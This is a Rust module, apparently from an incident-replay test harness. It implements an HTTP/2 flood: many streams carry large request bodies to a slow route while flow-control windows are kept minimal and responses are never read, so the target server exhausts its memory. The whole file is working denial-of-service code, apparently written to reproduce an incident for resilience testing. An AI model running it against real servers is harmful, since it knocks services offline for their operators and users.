//! The finale: HTTP/2 clients that open many streams with large request
//! bodies to the slow route and never read the answers. Built on the `h2`
//! crate directly to control flow control: our windows are the protocol
//! minimum and we never call `release_capacity`, so no WINDOW_UPDATE ever
//! leaves; whatever the target does with the bodies and the answers it
//! cannot deliver is its own memory.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use tokio::net::{TcpSocket, TcpStream};
use tokio_util::sync::CancellationToken;

use super::phases::{Kind, Recorder};

#[derive(Debug, Clone)]
pub struct Finale {
    pub target: SocketAddr,
    /// Source address of every finale connection: the flooder is one
    /// client, as in the incident (`None`: the system's choice).
    pub source: Option<IpAddr>,
    /// Path under the slow route.
    pub path: String,
    pub connections: u32,
    pub streams_per_connection: u32,
    pub body: usize,
}

/// Opens the connections and their streams, holds them until `cancel`, then
/// drops everything (the target sees the connections close).
pub async fn run(f: Finale, rec: Arc<Recorder>, cancel: CancellationToken) {
    // One shared buffer: every stream's body is a clone of it (refcounted),
    // so the replay itself stays small while the target is asked to hold
    // `body` bytes per stream.
    let body = Bytes::from(vec![0x5a; f.body]);
    let tasks: Vec<_> = (0..f.connections)
        .map(|_| {
            let (f, rec, cancel, body) = (f.clone(), rec.clone(), cancel.clone(), body.clone());
            tokio::spawn(async move { connection(&f, body, &rec, &cancel).await })
        })
        .collect();
    for t in tasks {
        let _ = t.await;
    }
}

async fn connection(f: &Finale, body: Bytes, rec: &Recorder, cancel: &CancellationToken) {
    let phase = rec.phase();
    let Ok(tcp) = connect(f.target, f.source).await else {
        rec.err(Kind::Finale, phase);
        return;
    };
    let handshake = h2::client::Builder::new()
        .initial_window_size(65_535)
        .initial_connection_window_size(65_535)
        .handshake::<_, Bytes>(tcp);
    let Ok((mut client, conn)) = handshake.await else {
        rec.err(Kind::Finale, phase);
        return;
    };
    let driver = tokio::spawn(async move {
        let _ = conn.await;
    });
    let uri = format!("http://{}{}", f.target, f.path);
    // Held, never polled: dropping them would reset the streams.
    let mut held = Vec::new();
    for _ in 0..f.streams_per_connection {
        // Waits while the target's max_concurrent_streams is reached; a
        // target that never frees a slot ends this connection's opening.
        let ready = tokio::select! {
            () = cancel.cancelled() => break,
            r = tokio::time::timeout(Duration::from_secs(1), client.clone().ready()) => r,
        };
        let Ok(Ok(c)) = ready else { break };
        client = c;
        let Ok(req) = http::Request::post(uri.as_str()).body(()) else {
            break;
        };
        match client.send_request(req, false) {
            Ok((resp, mut send)) => {
                // Queued in h2 and sent as the target's windows allow.
                let _ = send.send_data(body.clone(), true);
                held.push((resp, send));
                rec.ok(Kind::Finale, phase, Duration::ZERO);
            }
            Err(_) => {
                rec.err(Kind::Finale, phase);
                break;
            }
        }
    }
    cancel.cancelled().await;
    drop(held);
    drop(client);
    driver.abort();
}

/// A TCP connection to `target`, from `source` when given.
async fn connect(target: SocketAddr, source: Option<IpAddr>) -> std::io::Result<TcpStream> {
    let Some(ip) = source else {
        return TcpStream::connect(target).await;
    };
    let sock = if ip.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    sock.bind(SocketAddr::new(ip, 0))?;
    sock.connect(target).await
}
